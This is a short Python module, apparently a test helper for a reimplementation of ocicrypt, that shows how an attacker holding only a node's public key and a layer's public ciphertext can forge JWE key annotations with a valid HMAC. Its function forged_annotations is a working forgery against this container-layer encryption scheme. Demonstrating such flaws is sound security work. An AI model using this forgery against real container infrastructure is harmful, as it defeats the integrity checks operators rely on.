"""What an attacker can make for someone else's encrypted layer without any secret.

Knowing only the node's public key and the layer's (public) ciphertext, they can wrap a fresh key of
their own for the node and compute the matching HMAC over that ciphertext. The node's keys open it;
the layer decrypts to noise that verifies.
"""

from __future__ import annotations

import base64
import hashlib
import hmac

from ctd_decoder.ocicrypt import config as params
from ctd_decoder.ocicrypt.blockcipher import DEFAULT_CIPHER, get_cipher
from ctd_decoder.ocicrypt.blockcipher.options import PublicOptions
from ctd_decoder.ocicrypt.config import EncryptConfig
from ctd_decoder.ocicrypt.keywrap import ANNOTATION_PREFIX, PUBOPTS_ANNOTATION, get_wrapper


def forged_annotations(ciphertext: bytes, node_public_pem: bytes) -> dict[str, str]:
    """JWE annotations for ``ciphertext`` with an attacker's key wrapped for ``node_public_pem`` and a valid HMAC."""
    private = get_cipher(DEFAULT_CIPHER).new_private_options("sha256:" + hashlib.sha256(b"forged").hexdigest())
    tag = hmac.new(private.symkey, ciphertext, hashlib.sha256).digest()
    public = PublicOptions(DEFAULT_CIPHER, tag, {})
    wrapped = get_wrapper("jwe").wrap_keys(EncryptConfig({params.PUBKEYS: [node_public_pem]}), private.to_json())
    assert wrapped is not None
    return {
        ANNOTATION_PREFIX + "jwe": base64.b64encode(wrapped).decode("ascii"),
        PUBOPTS_ANNOTATION: base64.b64encode(public.to_json()).decode("ascii"),
    }
